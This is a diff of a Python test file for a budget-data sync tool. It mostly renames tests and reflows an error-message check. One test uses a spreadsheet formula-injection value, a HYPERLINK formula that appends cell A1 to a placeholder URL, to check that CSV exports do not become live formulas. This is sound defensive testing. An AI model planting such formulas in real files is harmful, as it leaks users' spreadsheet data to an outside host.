@@ -78,17 +78,13 @@ def test_one_budget_is_read_in_full(service: Service, lake: Lake) -> None:
     service.sandbox.faults = ["500:GET:*/budgets@1-3"]  # the source is not available
     assert lake.sync([service.source()], full=[YEN])["status"].tolist() == ["failed", "failed"]
     service.sandbox.faults = []
-    with pytest.raises(
-        ToolError, match="full: no source has a budget 'Housebold'; the closest: Hou"
-    ):
+    with pytest.raises(ToolError, match="full: no source has a budget 'Housebold'; the closest: H"):
         lake.sync([service.source()], full=["Housebold"])
     with pytest.raises(ToolError, match=r"full='a': pass a list, such as full=\['a'\]"):
         lake.sync([service.source()], full="a")
 
 
-def test_a_text_in_the_csv_files_for_the_owner_is_no_formula(
-    service: Service, new_lake: Lake, tmp_path: Path
-) -> None:
+def test_no_text_in_csv_is_a_formula(service: Service, new_lake: Lake, tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://example.org/?"&A1,"Rent")'
     with service.facade() as bf:
         row = {"date": "2026-06-01", "account_name": "Checking", "payee_name": formula}
@@ -177,9 +173,7 @@ def test_rebuild_writes_all_tables_again_without_a_request(
     assert lake.sync([service.source()])["changed"].tolist() == [True, False]
 
 
-def test_columns_of_other_types_are_refused_also_after_a_rebuild_that_stopped(
-    service: Service, lake: Lake
-) -> None:
+def test_other_types_are_refused_also_after_a_stopped_rebuild(service: Service, lake: Lake) -> None:
     with_columns(lake, as_text)
     with pytest.raises(Stopped), end_after(18):
         lake.rebuild()
